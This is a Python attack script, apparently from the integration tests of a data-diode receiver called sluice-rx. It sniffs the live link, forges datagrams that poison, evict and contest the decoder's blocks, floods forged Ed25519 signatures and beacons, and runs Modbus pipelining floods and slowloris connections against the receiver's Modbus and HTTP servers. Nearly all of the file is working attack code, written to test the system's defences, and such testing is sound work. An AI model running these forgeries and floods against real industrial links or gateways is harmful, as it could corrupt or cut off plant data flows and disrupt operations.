#!/usr/bin/python3
"""Attacks on a running sluice-rx, as an attacker would play them.

Fibre side: nothing but the traffic on the link. The header fields of the
live session (session, epoch, key id, S, k', m', the newest block_seq, the
last beacon) are read off genuine datagrams sniffed on the receiving
interface (AF_PACKET, root); forged datagrams are sent to RX's listen
address. IT side: an ordinary TCP client of RX's Modbus and HTTP servers.

  attack.py sniff     --iface IF [--port 7400] [--seconds 3]
  attack.py poison    --iface IF --target HOST:PORT [--variant tiny|k1|genuine] [--ahead N]
  attack.py sigflood  --iface IF --target HOST:PORT [--kind block|beacon] [--rate 20000] [--seconds 5]
  attack.py evict     --iface IF --target HOST:PORT [--rate 8000] [--seconds 8] [--near 64] [--far-share 0.5]
  attack.py contest   --iface IF --target HOST:PORT [--seconds 8] [--ahead 3] [--indexes all|most]
  attack.py mbflood   --target HOST:PORT [--seconds 6] [--depth 50000] [--unit 1]
  attack.py probe     --target HOST:PORT [--path /api/status] [--seconds 6] [--interval 0.25]
  attack.py slowloris --target HOST:PORT --proto modbus|http [--conns 20] [--seconds 10] [--interval 0.5]
  attack.py watch     --tag PATH/NAME [--http HOST:PORT] [--modbus HOST:PORT] [--unit 1] [--reg 1]

Every command prints one JSON object on stdout (what it saw or did) and is
bounded in count and time. Run it inside the namespace that reaches RX
(tests: `ip netns exec sl-it attack.py ...`). Functions of the same names
can be imported (tests/integration/test_attacks.py uses the CLI).

What each attack does (docs/security.md maps them to what bounds them):
  poison     for each upcoming block_seq of the live session and channel 0,
             junk DATA frames with a valid CRC32C that complete a decoder
             entry at once: tiny (S = 64, k' = 1: a 112-byte frame), k1
             (the genuine S, k' = 1), genuine (the genuine S, k', m': all k'
             data symbols of junk).
  sigflood   frames whose symbol IS a well-formed block (magic, version,
             fields matching the frame, the trusted key id, minimal k' = 1,
             zero padding, a canonical s) so that each one costs RX an
             Ed25519 verification; or beacons with the genuine fields, the
             next beacon_seqs and a canonical s. Paced at --rate for --seconds.
  evict      junk agreeing with the beacon in all but block_seq (k' = k,
             m' = m, index 0) on far-future ids and on the ids just past
             the live frontier: partial blocks that never complete and
             would push the genuine multi-symbol blocks out of the table.
  contest    forged symbols with the exact identity of the next full-size
             blocks (k' = k, the block_seq TX uses next), every index or
             the first k - 1, sent before the genuine ones.
  mbflood    one TCP connection, read requests pipelined as fast as the
             socket takes them (up to --depth unanswered), responses drained.
  probe      GET PATH every --interval on a fresh connection: latency of each.
  slowloris  many connections trickling one byte per --interval: Modbus
             requests that take seconds to complete, HTTP headers that never
             end. Reports when the server closed each one.
"""
import argparse
import json
import os
import random
import select
import socket
import struct
import sys
import threading
import time

ETH_P_IP = 0x0800
MAGIC = b"SL"
FRAME_HDR = 44
BLOCK_HDR = 44
SIG = 64


# ---- CRC32C -------------------------------------------------------------------

def _table():
    t = []
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0x82F63B78 if c & 1 else c >> 1
        t.append(c)
    return t


_T = _table()


def crc32c(data):
    """CRC-32C (Castagnoli), as proto/sl_crc.c: check value of b"123456789"
    is 0xE3069283."""
    c = 0xFFFFFFFF
    t = _T
    for b in data:
        c = t[(c ^ b) & 0xFF] ^ (c >> 8)
    return c ^ 0xFFFFFFFF


class CrcPatch:
    """CRC32C of a template whose bytes change only at a few positions,
    without a pass over the whole frame: a CRC is affine over GF(2), so
    crc(T ^ D) = crc(T) ^ crc(D) ^ crc(0). Built once (8 CRCs of the frame
    length per position), then ~1 us per changed byte: enough to forge
    20k frames/s of 1472 bytes in Python."""

    def __init__(self, template, positions):
        self.t = bytes(template)
        self.base = crc32c(self.t)
        n = len(self.t)
        zero = crc32c(bytes(n))
        self.pos = list(positions)
        self.tab = {}
        for p in self.pos:
            basis = []
            for b in range(8):
                e = bytearray(n)
                e[p] = 1 << b
                basis.append(crc32c(e) ^ zero)
            row = [0] * 256
            for v in range(1, 256):
                low = v & -v
                row[v] = row[v ^ low] ^ basis[low.bit_length() - 1]
            self.tab[p] = row

    def crc(self, frame):
        c = self.base
        t = self.t
        for p in self.pos:
            c ^= self.tab[p][frame[p] ^ t[p]]
        return c


# ---- sniffing the live session -------------------------------------------------

class Session:
    """What an eavesdropper on the fibre knows about the live TX session."""

    def __init__(self):
        self.session = self.epoch = None
        self.key_id = None
        self.S = None
        self.km = {}                 # (k', m') -> frames seen on channel 0
        self.max_seq = -1            # newest tag block_seq seen
        self.seqs = {}               # tag block_seq -> first seen (monotonic s)
        self.beacon = None           # the newest genuine beacon (bytes)
        self.beacon_seq = None
        self.beacon_k = self.beacon_m = None   # the link parameters the beacon announces
        self.highest_block = None    # the beacon's highest_block (tag blocks fully sent)
        self.blocks = {}             # tag block_seq -> (k', m')
        self.frames = 0

    def absorb(self, dg, now):
        """Learns from one genuine datagram seen at monotonic time now;
        returns the Session to use from then on (a fresh one when TX
        started a new session)."""
        if dg[:3] != b"SL\x01":
            return self
        if dg[3] == 2 and len(dg) == 200:
            self.beacon = dg
            self.session, self.epoch = struct.unpack(">QQ", dg[8:24])
            self.key_id = dg[24:32]
            self.beacon_seq = struct.unpack(">Q", dg[32:40])[0]
            self.highest_block = struct.unpack(">Q", dg[48:56])[0]
            self.beacon_k, self.beacon_m = dg[58], dg[59]
            if self.S is None:
                self.S = struct.unpack(">H", dg[56:58])[0]
        elif dg[3] == 1 and len(dg) >= 112:
            ch, S = struct.unpack(">HH", dg[4:8])
            if ch != 0:
                return self
            session, epoch, seq = struct.unpack(">QQQ", dg[8:32])
            if self.session is not None and session != self.session:
                # a new TX session: start over
                return Session().absorb(dg, now)
            self.session, self.epoch, self.key_id, self.S = session, epoch, dg[32:40], S
            k, m = dg[40], dg[41]
            self.km[(k, m)] = self.km.get((k, m), 0) + 1
            self.blocks[seq] = (k, m)
            self.frames += 1
            self.seqs.setdefault(seq, now)
            self.max_seq = max(self.max_seq, seq)
        return self

    def common_km(self):
        return max(self.km.items(), key=lambda x: x[1])[0] if self.km else (1, 1)

    def block_rate(self):
        """Tag blocks per second seen while sniffing."""
        if len(self.seqs) < 2:
            return 1.0
        ts = sorted(self.seqs.values())
        span = ts[-1] - ts[0]
        return (len(ts) - 1) / span if span > 0 else 1.0

    def as_dict(self):
        return {"session": "%016x" % self.session if self.session is not None else None,
                "epoch": self.epoch, "key_id": self.key_id.hex() if self.key_id else None,
                "S": self.S, "km": "%d/%d" % self.common_km(), "max_seq": self.max_seq,
                "beacon_seq": self.beacon_seq, "frames": self.frames,
                "block_rate": round(self.block_rate(), 2), "beacon_km": "%s/%s" % (self.beacon_k, self.beacon_m),
                "highest_block": self.highest_block, "blocks_by_k": self.blocks_by_k()}

    def blocks_by_k(self):
        """{k': tag blocks seen with that many data symbols}, as text keys."""
        out = {}
        for k, _ in self.blocks.values():
            out[str(k)] = out.get(str(k), 0) + 1
        return out


def _udp_payload(pkt, port):
    if len(pkt) < 28 or pkt[0] >> 4 != 4 or pkt[9] != 17:
        return None
    ihl = (pkt[0] & 15) * 4
    total = struct.unpack(">H", pkt[2:4])[0]
    udp = pkt[ihl:total]
    if len(udp) < 8 or struct.unpack(">H", udp[2:4])[0] != port:
        return None
    return udp[8:]


def sniff(iface, port=7400, seconds=3.0, max_seconds=10.0):
    """Reads genuine datagrams on iface for at least `seconds` (and until a
    beacon and a tag DATA frame were seen, at most max_seconds); returns a
    Session. Needs root (AF_PACKET)."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    s.bind((iface, ETH_P_IP))
    s.settimeout(0.2)
    sess = Session()
    t0 = time.monotonic()
    try:
        while True:
            now = time.monotonic()
            if now - t0 >= max_seconds:
                break
            if now - t0 >= seconds and sess.beacon is not None and sess.max_seq >= 0:
                break
            try:
                pkt = s.recv(65535)
            except socket.timeout:
                continue
            dg = _udp_payload(pkt, port)
            if dg:
                sess = sess.absorb(dg, now)
    finally:
        s.close()
    if sess.session is None or sess.max_seq < 0 or sess.beacon is None:
        raise RuntimeError("sniff on %s: no live session seen in %.1f s (%d frames)"
                           % (iface, max_seconds, sess.frames))
    return sess


class Tracker:
    """Keeps sniffing in a thread while an attack runs, so the attack knows
    the live frontier (the newest tag block_seq) at every moment, not an
    extrapolation. .sess is the current Session; .stop() ends the thread."""

    def __init__(self, iface, sess, port=7400):
        self.sess, self.port = sess, port
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
        self.sock.bind((iface, ETH_P_IP))
        self.sock.settimeout(0.1)
        self.halt = threading.Event()
        self.th = threading.Thread(target=self._run, daemon=True)
        self.th.start()

    def _run(self):
        while not self.halt.is_set():
            try:
                pkt = self.sock.recv(65535)
            except socket.timeout:
                continue
            except OSError:
                return
            dg = _udp_payload(pkt, self.port)
            if dg:
                self.sess = self.sess.absorb(dg, time.monotonic())

    def stop(self):
        self.halt.set()
        self.th.join(2)
        self.sock.close()


# ---- fibre-side forgeries ------------------------------------------------------

def parse_target(text):
    host, _, port = text.rpartition(":")
    return host, int(port)


def data_frame(sess, seq, k, m, index, S, symbol):
    hdr = struct.pack(">2sBBHHQQQ8sBBBB", MAGIC, 1, 1, 0, S, sess.session, sess.epoch, seq,
                      sess.key_id, k, m, index, 0)
    body = hdr + symbol
    return body + struct.pack(">I", crc32c(body))


class Pacer:
    """Sends at most `rate` datagrams/s for at most `seconds`, never more
    than `count`; counts what the kernel refused (a full queue)."""

    def __init__(self, target, rate, seconds, count):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.target, self.rate, self.count = target, rate, count
        self.t0 = time.monotonic()
        self.end = self.t0 + seconds
        self.sent = self.refused = 0

    def more(self):
        return self.sent + self.refused < self.count and time.monotonic() < self.end

    def send(self, dg):
        while True:
            due = (time.monotonic() - self.t0) * self.rate
            if self.sent + self.refused < due:
                break
            time.sleep(0.0005)
        try:
            self.sock.sendto(dg, self.target)
            self.sent += 1
        except OSError:
            self.refused += 1

    def close(self):
        self.sock.close()
        return {"sent": self.sent, "refused": self.refused,
                "seconds": round(time.monotonic() - self.t0, 2)}


def poison(sess, target, variant="k1", ahead=None, rate=20000, seed=13):
    """Junk frames that complete a decoder entry for each of the next
    `ahead` tag block_seqs (default: ~60 s of the session's block rate,
    at most 900: under the decoder's done-history of 1024 ids)."""
    rnd = random.Random(seed)
    if ahead is None:
        ahead = int(min(900, max(100, sess.block_rate() * 60)))
    if variant == "tiny":
        S, k, m, idx = 64, 1, 1, [0]
    elif variant == "k1":
        S, k, m, idx = sess.S, 1, 1, [0]
    elif variant == "genuine":
        (k, m), S = sess.common_km(), sess.S
        idx = list(range(k))
    else:
        raise ValueError("unknown poison variant " + variant)
    first = sess.max_seq + 1
    p = Pacer(target, rate, 30, ahead * len(idx))
    for seq in range(first, first + ahead):
        for i in idx:
            if not p.more():
                break
            p.send(data_frame(sess, seq, k, m, i, S, rnd.randbytes(S)))
    out = p.close()
    out.update({"variant": variant, "first_seq": first, "last_seq": first + ahead - 1,
                "S": S, "k": k, "m": m, "frame_bytes": 48 + S})
    return out


def seq_frame(sess, k, m, index, rnd):
    """A DATA frame of the live session (junk symbol, valid CRC32C) and a
    CrcPatch for its block_seq bytes: (bytearray frame, patch); set a new
    block_seq with set_seq() (the symbol's first 8 bytes may change too)."""
    f = bytearray(data_frame(sess, 0, k, m, index, sess.S, rnd.randbytes(sess.S)))
    return f, CrcPatch(f[:-4], list(range(24, 32)) + list(range(FRAME_HDR, FRAME_HDR + 8)))


def set_seq(f, cp, seq):
    struct.pack_into(">Q", f, 24, seq)
    struct.pack_into(">I", f, len(f) - 4, cp.crc(f))
    return bytes(f)


def evict(iface, sess, target, rate=8000, seconds=8.0, near=64, far_share=0.5, port=7400, seed=31):
    """Junk that agrees with the beacon in everything but block_seq (the
    genuine session, epoch, key id and S, k' = k and m' = m as the beacon
    announces them, index 0, a valid CRC32C): each frame opens a partial
    block that never completes (one symbol of k), so without a bound on
    which ids are "announced" the table fills with junk and evicts the
    genuine multi-symbol blocks between their first and k'-th symbol.
    A `far_share` of the frames go to far-future ids (frontier + 1000 ..
    frontier + 2^40, inside RX's replay jump bound), the rest to the `near`
    ids just past the live frontier (kept current by a Tracker)."""
    rnd = random.Random(seed)
    k, m = sess.beacon_k, sess.beacon_m
    f, cp = seq_frame(sess, k, m, 0, rnd)
    tr = Tracker(iface, sess, port)
    p = Pacer(target, rate, seconds, int(rate * seconds))
    nfar = nnear = 0
    try:
        while p.more():
            cur = tr.sess
            if cur.session != sess.session:
                break                  # TX restarted: the forged identity is stale
            front = cur.max_seq
            if rnd.random() < far_share:
                seq = front + 1000 + rnd.randrange(1 << 40)
                nfar += 1
            else:
                seq = front + 1 + rnd.randrange(near)
                nnear += 1
            p.send(set_seq(f, cp, seq))
    finally:
        tr.stop()
    out = p.close()
    out.update({"k": k, "m": m, "S": sess.S, "frame_bytes": len(f), "far": nfar, "near": nnear,
                "first_frontier": sess.max_seq, "last_frontier": tr.sess.max_seq,
                "genuine_blocks_by_k": tr.sess.blocks_by_k()})
    return out


def contest(iface, sess, target, seconds=8.0, ahead=3, indexes="all", max_frames=20000, port=7400,
            seed=37):
    """Forged symbols with the exact identity of the next full-size blocks
    (the genuine session, epoch, key id, S, k' = k, m' = m and the block_seq
    TX will use next, predicted from the live frontier), sent before the
    genuine ones: every index ("all": k + m frames per id), or the first
    k - 1 data indexes ("most": the entry never completes on junk alone, so
    each genuine symbol of those indexes meets a different one and is
    erased). Each predicted id is forged once; at most max_frames in all."""
    rnd = random.Random(seed)
    k, m = sess.beacon_k, sess.beacon_m
    idx = list(range(k + m)) if indexes == "all" else list(range(max(1, k - 1)))
    frames = [seq_frame(sess, k, m, i, rnd) for i in idx]
    tr = Tracker(iface, sess, port)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    forged = set()
    sent = refused = 0
    t0 = time.monotonic()
    try:
        while time.monotonic() - t0 < seconds and sent + refused + len(idx) <= max_frames:
            cur = tr.sess
            if cur.session != sess.session:
                break
            todo = [q for q in range(cur.max_seq + 1, cur.max_seq + 1 + ahead) if q not in forged]
            if not todo:
                time.sleep(0.002)
                continue
            for q in todo:
                forged.add(q)
                for f, cp in frames:
                    # fresh junk per id, so no two ids share a symbol
                    f[FRAME_HDR:FRAME_HDR + 8] = rnd.randbytes(8)
                    try:
                        sock.sendto(set_seq(f, cp, q), target)
                        sent += 1
                    except OSError:
                        refused += 1
    finally:
        tr.stop()
        sock.close()
    blocks = tr.sess.blocks
    full = sorted(q for q in forged if blocks.get(q, (0, 0))[0] == k)
    return {"sent": sent, "refused": refused, "seconds": round(time.monotonic() - t0, 2), "k": k, "m": m,
            "indexes": len(idx), "ids_forged": len(forged), "first_id": min(forged) if forged else None,
            "last_id": max(forged) if forged else None, "forged_full_size": len(full),
            "genuine_blocks_by_k": tr.sess.blocks_by_k()}


def canonical_sig(rnd):
    """R random, s random below 2^252 (< the group order L): passes
    libsodium's canonical-s and small-order checks, so a verification runs."""
    r = rnd.randbytes(32)
    s = bytearray(rnd.randbytes(32))
    s[31] &= 0x0F
    return r + bytes(s)


def block_template(sess, seq, rnd, m=None):
    """A DATA frame (k' = 1, index 0, the genuine S) whose symbol is a
    complete, well-formed version-2 block with a forged signature."""
    S = sess.S
    m = m or sess.common_km()[1]
    L = S - BLOCK_HDR - SIG                      # pad = 0: k' = 1 is minimal
    blk = struct.pack(">HBBHHQQQQI", 0x5342, 2, 0, 0, 0, sess.session, sess.epoch, seq,
                      int(time.time() * 1e6), L)
    blk += rnd.randbytes(L) + canonical_sig(rnd)
    assert len(blk) == S
    hdr = struct.pack(">2sBBHHQQQ8sBBBB", MAGIC, 1, 1, 0, S, sess.session, sess.epoch, seq,
                      sess.key_id, 1, m, 0, 0)
    return bytearray(hdr + blk + b"\0\0\0\0")


def sigflood(sess, target, kind="block", rate=20000, seconds=5.0, seed=23):
    """Forged frames that each reach an Ed25519 verification on RX."""
    rnd = random.Random(seed)
    count = int(rate * seconds)
    p = Pacer(target, rate, seconds, count)
    if kind == "block":
        first = sess.max_seq + 1
        f = block_template(sess, first, rnd)
        n = len(f) - 4
        seq_pos = list(range(24, 32)) + list(range(FRAME_HDR + 24, FRAME_HDR + 32))
        cp = CrcPatch(f[:n], seq_pos)
        seq = first
        while p.more():
            b = struct.pack(">Q", seq)
            f[24:32] = b
            f[FRAME_HDR + 24:FRAME_HDR + 32] = b
            struct.pack_into(">I", f, n, cp.crc(f))
            p.send(bytes(f))
            seq += 1
        out = p.close()
        out.update({"kind": kind, "first_seq": first, "last_seq": seq - 1, "frame_bytes": len(f)})
        return out
    if kind == "beacon":
        g = bytearray(sess.beacon)
        first = sess.beacon_seq + 1
        g[132:196] = canonical_sig(rnd)
        struct.pack_into(">Q", g, 32, first)
        cp = CrcPatch(g[:196], range(32, 40))
        seq = first
        while p.more():
            struct.pack_into(">Q", g, 32, seq)
            struct.pack_into(">I", g, 196, cp.crc(g))
            p.send(bytes(g))
            seq += 1
        out = p.close()
        out.update({"kind": kind, "first_beacon_seq": first, "last_beacon_seq": seq - 1})
        return out
    raise ValueError("unknown flood kind " + kind)


# ---- IT-side clients ------------------------------------------------------------

def mb_request(tid, unit=1, fc=3, addr=0, count=125):
    return struct.pack(">HHHBBHH", tid & 0xFFFF, 0, 6, unit, fc, addr, count)


def mbflood(target, seconds=6.0, depth=50000, unit=1, max_requests=20000000, source=None):
    """One connection, read requests pipelined (at most `depth` unanswered),
    responses drained in a second thread. Non-blocking, so a server that
    stops reading never leaves half a request on the wire. Returns counts."""
    s = socket.create_connection(target, timeout=3, source_address=(source, 0) if source else None)
    s.setblocking(False)
    st = {"sent": 0, "answered": 0, "exceptions": 0, "answered_bytes": 0, "closed_by_server": False,
          "send_stalls": 0}
    end = time.monotonic() + seconds
    stop = threading.Event()
    buf = bytearray()

    def count(b):
        """Counts whole responses (MBAP length) in the received stream."""
        buf.extend(b)
        off = 0
        while len(buf) - off >= 8:
            n = 6 + struct.unpack(">H", buf[off + 4:off + 6])[0]
            if len(buf) - off < n:
                break
            st["answered"] += 1
            if buf[off + 7] & 0x80:
                st["exceptions"] += 1
            off += n
        del buf[:off]

    def reader():
        while not stop.is_set():
            r, _, _ = select.select([s], [], [], 0.2)
            if not r:
                continue
            try:
                b = s.recv(1 << 16)
            except BlockingIOError:
                continue
            except OSError:
                st["closed_by_server"] = True
                return
            if not b:
                st["closed_by_server"] = True
                return
            st["answered_bytes"] += len(b)
            count(b)

    th = threading.Thread(target=reader, daemon=True)
    th.start()
    # 8 holding registers from 10 (the four flow_i32 tags of sluice-sim's
    # map): a 25-byte answer, or a 9-byte exception when the link is down.
    batch = b"".join(mb_request(i, unit, 3, 10, 8) for i in range(1024))
    t0 = time.monotonic()
    pending, off = b"", 0
    while time.monotonic() < end and st["sent"] < max_requests and not st["closed_by_server"]:
        if off >= len(pending):
            if st["sent"] - st["answered"] > depth:
                time.sleep(0.001)
                continue
            pending, off = batch, 0
            st["sent"] += 1024
        _, w, _ = select.select([], [s], [], 0.1)
        if not w:
            st["send_stalls"] += 1
            continue
        try:
            off += s.send(pending[off:])
        except BlockingIOError:
            continue
        except OSError:
            st["closed_by_server"] = True
            break
    time.sleep(0.5)
    stop.set()
    th.join(2)
    s.close()
    st["seconds"] = round(time.monotonic() - t0, 2)
    return st


def http_get(target, path, timeout=3.0, host_header=None):
    """One GET on a fresh connection: (status, seconds, body) or (None,
    seconds, error text) on a timeout or a refused connection."""
    t0 = time.monotonic()
    try:
        s = socket.create_connection(target, timeout=timeout)
        s.settimeout(max(0.05, timeout - (time.monotonic() - t0)))
        host = host_header or "%s:%d" % target
        s.sendall(("GET %s HTTP/1.0\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host)).encode())
        chunks = []
        while True:
            b = s.recv(65536)
            if not b:
                break
            chunks.append(b)
            if time.monotonic() - t0 > timeout:
                raise socket.timeout("read")
        s.close()
    except OSError as e:
        return None, time.monotonic() - t0, "%s: %s" % (type(e).__name__, e)
    data = b"".join(chunks)
    head, _, body = data.partition(b"\r\n\r\n")
    try:
        status = int(head.split(b" ", 2)[1])
    except (IndexError, ValueError):
        status = 0
    return status, time.monotonic() - t0, body.decode("utf-8", "replace")


def probe(target, path="/api/status", seconds=6.0, interval=0.25, timeout=3.0):
    """GET path every interval for seconds: [[t, status, latency s]]."""
    out = []
    t0 = time.monotonic()
    while time.monotonic() - t0 < seconds:
        t = time.monotonic() - t0
        status, lat, _ = http_get(target, path, timeout)
        out.append([round(t, 3), status, round(lat, 4)])
        time.sleep(max(0.0, interval - lat))
    lats = [x[2] for x in out]
    return {"reads": out, "max_s": max(lats) if lats else None,
            "failed": sum(1 for x in out if x[1] != 200)}


def slowloris(target, proto="modbus", conns=20, seconds=10.0, interval=0.5, source=None):
    """`conns` connections, each sending one byte per interval: an endless
    stream of Modbus read requests at that pace (each takes 12 intervals to
    complete), or an HTTP request whose headers never end. Returns when each
    was closed by the server (seconds after it opened), bounded by seconds."""
    if proto == "modbus":
        stream = b"".join(mb_request(i, 1, 3, 0, 1) for i in range(1, 200))
    else:
        stream = ("GET /api/status HTTP/1.1\r\nHost: %s:%d\r\n" % target).encode() + b"X-a: b\r\n" * 4000
    socks, refused = [], 0
    t0 = time.monotonic()
    for i in range(conns):
        try:
            s = socket.create_connection(target, timeout=2, source_address=(source, 0) if source else None)
            s.setblocking(False)
            socks.append({"s": s, "t": time.monotonic(), "off": 0, "closed": None, "answered": 0})
        except OSError:
            refused += 1
    end = t0 + seconds
    next_tick = time.monotonic()
    while time.monotonic() < end and any(c["closed"] is None for c in socks):
        now = time.monotonic()
        if now >= next_tick:
            next_tick = now + interval
            for c in socks:
                if c["closed"] is not None or c["off"] >= len(stream):
                    continue
                try:
                    c["s"].send(stream[c["off"]:c["off"] + 1])
                    c["off"] += 1
                except BlockingIOError:
                    pass
                except OSError:
                    c["closed"] = now - c["t"]
        live = [c for c in socks if c["closed"] is None]
        r, _, _ = select.select([c["s"] for c in live], [], [], max(0.0, min(0.05, next_tick - now)))
        for c in live:
            if c["s"] in r:
                try:
                    b = c["s"].recv(4096)
                except OSError:
                    b = b""
                if b:
                    c["answered"] += len(b)
                else:
                    c["closed"] = time.monotonic() - c["t"]
    for c in socks:
        c["s"].close()
    closed = [round(c["closed"], 2) for c in socks if c["closed"] is not None]
    return {"proto": proto, "opened": len(socks), "refused": refused, "closed": len(closed),
            "closed_after_s": sorted(closed), "still_open": len(socks) - len(closed),
            "answered_bytes": sum(c["answered"] for c in socks),
            "seconds": round(time.monotonic() - t0, 2)}


def mb_read(target, unit, addr, count=1, fc=3, timeout=1.0):
    """One Modbus read on a fresh connection: ("ok", [registers]) or
    ("exc", code) or ("err", text)."""
    try:
        with socket.create_connection(target, timeout=timeout) as s:
            s.settimeout(timeout)
            s.sendall(mb_request(7, unit, fc, addr, count))
            data = b""
            while len(data) < 9:
                b = s.recv(512)
                if not b:
                    return "err", "closed"
                data += b
            if data[7] & 0x80:
                return "exc", data[8]
            want = 9 + data[8]
            while len(data) < want:
                b = s.recv(512)
                if not b:
                    return "err", "short"
                data += b
            return "ok", list(struct.unpack(">%dH" % (data[8] // 2), data[9:want]))
    except OSError as e:
        return "err", "%s: %s" % (type(e).__name__, e)


def watch(http, modbus, tag, unit=1, reg=1, seconds=8.0, interval=0.25):
    """Samples one moving tag every interval: its value and quality on
    HTTP /api/tags and its holding register on Modbus. Returns
    {"samples": [[t, http_value, http_quality, mb_kind, mb_value]]}."""
    out = []
    t0 = time.monotonic()
    while time.monotonic() - t0 < seconds:
        t = round(time.monotonic() - t0, 3)
        hv = hq = None
        status, _, body = http_get(http, "/api/tags", 2.0) if http else (None, 0, "")
        if status == 200:
            try:
                doc = json.loads(body)
                for x in doc["tags"] if isinstance(doc, dict) else doc:
                    if "%s/%s" % (x.get("path"), x.get("name")) == tag:
                        hv, hq = x.get("value"), x.get("quality")
            except (ValueError, KeyError, TypeError):
                pass
        mk, mv = mb_read(modbus, unit, reg) if modbus else (None, None)
        if mk == "ok":
            mv = mv[0]
        out.append([t, hv, hq, mk, mv])
        time.sleep(max(0.0, interval - (time.monotonic() - t0 - t)))
    return {"samples": out}


# ---- CLI -------------------------------------------------------------------------

def main(argv):
    ap = argparse.ArgumentParser(prog="attack.py", description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter,
                                 epilog="\n\n".join(__doc__.split("\n\n")[1:]))
    sub = ap.add_subparsers(dest="cmd", required=True)

    def fibre(p):
        p.add_argument("--iface", required=True, help="interface that sees the genuine frames")
        p.add_argument("--port", type=int, default=7400, help="diode UDP port (7400)")
        p.add_argument("--sniff-seconds", type=float, default=2.0)

    p = sub.add_parser("sniff", help="read the live session's fields off the link")
    fibre(p)
    p = sub.add_parser("poison", help="junk frames completing upcoming block ids")
    fibre(p)
    p.add_argument("--target", required=True, help="RX listen HOST:PORT")
    p.add_argument("--variant", choices=("tiny", "k1", "genuine"), default="tiny")
    p.add_argument("--ahead", type=int, default=None, help="block ids to poison (default ~60 s)")
    p = sub.add_parser("sigflood", help="frames or beacons that each cost RX a signature check")
    fibre(p)
    p.add_argument("--target", required=True)
    p.add_argument("--kind", choices=("block", "beacon"), default="block")
    p.add_argument("--rate", type=int, default=20000, help="datagrams/s (20000)")
    p.add_argument("--seconds", type=float, default=5.0)
    p = sub.add_parser("evict", help="beacon-matching junk on near and far future block ids")
    fibre(p)
    p.add_argument("--target", required=True)
    p.add_argument("--rate", type=int, default=8000, help="datagrams/s (8000)")
    p.add_argument("--seconds", type=float, default=8.0)
    p.add_argument("--near", type=int, default=64, help="ids just past the frontier to use (64)")
    p.add_argument("--far-share", type=float, default=0.5, help="fraction of frames on far ids (0.5)")
    p = sub.add_parser("contest", help="forged symbols of the next full-size blocks, ahead of them")
    fibre(p)
    p.add_argument("--target", required=True)
    p.add_argument("--seconds", type=float, default=8.0)
    p.add_argument("--ahead", type=int, default=3, help="ids past the frontier to forge (3)")
    p.add_argument("--indexes", choices=("all", "most"), default="all")
    p.add_argument("--max-frames", type=int, default=20000)
    p = sub.add_parser("mbflood", help="one Modbus client pipelining read requests")
    p.add_argument("--target", required=True)
    p.add_argument("--seconds", type=float, default=6.0)
    p.add_argument("--depth", type=int, default=50000)
    p.add_argument("--unit", type=int, default=1)
    p.add_argument("--source", help="local address to connect from (another IT host)")
    p = sub.add_parser("probe", help="HTTP GET latency, repeatedly")
    p.add_argument("--target", required=True)
    p.add_argument("--path", default="/api/status")
    p.add_argument("--seconds", type=float, default=6.0)
    p.add_argument("--interval", type=float, default=0.25)
    p.add_argument("--timeout", type=float, default=3.0)
    p = sub.add_parser("slowloris", help="connections trickling bytes")
    p.add_argument("--target", required=True)
    p.add_argument("--proto", choices=("modbus", "http"), required=True)
    p.add_argument("--conns", type=int, default=20)
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--interval", type=float, default=0.5)
    p.add_argument("--source", help="local address to connect from (another IT host)")
    p = sub.add_parser("watch", help="sample one moving tag on HTTP and Modbus")
    p.add_argument("--http", help="HTTP HOST:PORT")
    p.add_argument("--modbus", help="Modbus HOST:PORT")
    p.add_argument("--tag", required=True, help="path/name as /api/tags shows it")
    p.add_argument("--unit", type=int, default=1)
    p.add_argument("--reg", type=int, default=1, help="0-based holding register of the tag")
    p.add_argument("--seconds", type=float, default=8.0)
    p.add_argument("--interval", type=float, default=0.25)
    a = ap.parse_args(argv)

    if a.cmd in ("sniff", "poison", "sigflood", "evict", "contest"):
        sess = sniff(a.iface, a.port, a.sniff_seconds)
    if a.cmd == "sniff":
        out = sess.as_dict()
    elif a.cmd == "poison":
        out = {"session": sess.as_dict(), **poison(sess, parse_target(a.target), a.variant, a.ahead)}
    elif a.cmd == "sigflood":
        out = {"session": sess.as_dict(),
               **sigflood(sess, parse_target(a.target), a.kind, a.rate, a.seconds)}
    elif a.cmd == "evict":
        out = {"session": sess.as_dict(),
               **evict(a.iface, sess, parse_target(a.target), a.rate, a.seconds, a.near, a.far_share, a.port)}
    elif a.cmd == "contest":
        out = {"session": sess.as_dict(),
               **contest(a.iface, sess, parse_target(a.target), a.seconds, a.ahead, a.indexes, a.max_frames,
                         a.port)}
    elif a.cmd == "mbflood":
        out = mbflood(parse_target(a.target), a.seconds, a.depth, a.unit, source=a.source)
    elif a.cmd == "probe":
        out = probe(parse_target(a.target), a.path, a.seconds, a.interval, a.timeout)
    elif a.cmd == "watch":
        out = watch(a.http and parse_target(a.http), a.modbus and parse_target(a.modbus), a.tag,
                    a.unit, a.reg, a.seconds, a.interval)
    else:
        out = slowloris(parse_target(a.target), a.proto, a.conns, a.seconds, a.interval, a.source)
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    assert crc32c(b"123456789") == 0xE3069283
    sys.exit(main(sys.argv[1:]))
